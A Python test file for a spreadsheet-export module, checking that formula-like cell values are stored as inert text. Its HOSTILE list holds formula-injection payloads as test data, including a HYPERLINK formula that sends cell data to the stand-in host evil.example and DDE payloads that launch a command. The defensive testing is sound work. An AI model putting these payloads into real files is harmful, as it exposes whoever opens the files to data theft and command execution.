"""common.xlsxsafe: no exported cell is ever a formula, hostile values included."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from common.xlsxsafe import SpreadsheetError, read_rows, workbook
from tests.officetext import assert_no_formula

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
]


def test_hostile_values_are_text_with_the_quote_prefix():
    data = workbook([("一覧", ["値"], [[v] for v in HOSTILE])])
    assert_no_formula(data)
    book = load_workbook(io.BytesIO(data))
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    assert [c.value for c in cells] == HOSTILE  # the text itself is kept, nothing is prepended
    assert all(c.data_type == "s" for c in cells)
    assert not cells[-1].quotePrefix  # 「DDE(」 is not a formula start


def test_numbers_stay_numbers_and_control_characters_are_dropped():
    data = workbook([("一覧", ["No.", "本文"], [[1, "a\x00b\x07c"]])])
    book = load_workbook(io.BytesIO(data))
    assert book.active["A2"].value == 1 and book.active["A2"].data_type == "n"
    assert book.active["B2"].value == "abc"


def test_read_rows_gives_formulas_back_as_text_and_refuses_other_files():
    data = workbook([("一覧", ["a"], [["=1+1"], ["本文"]])])
    assert read_rows(data) == [["a"], ["=1+1"], ["本文"]]
    for junk in (b"", b"PK\x03\x04broken", b"%PDF-1.7", "No.,本文".encode()):
        with pytest.raises(SpreadsheetError) as caught:
            read_rows(junk)
        assert "読み込めません" in caught.value.message
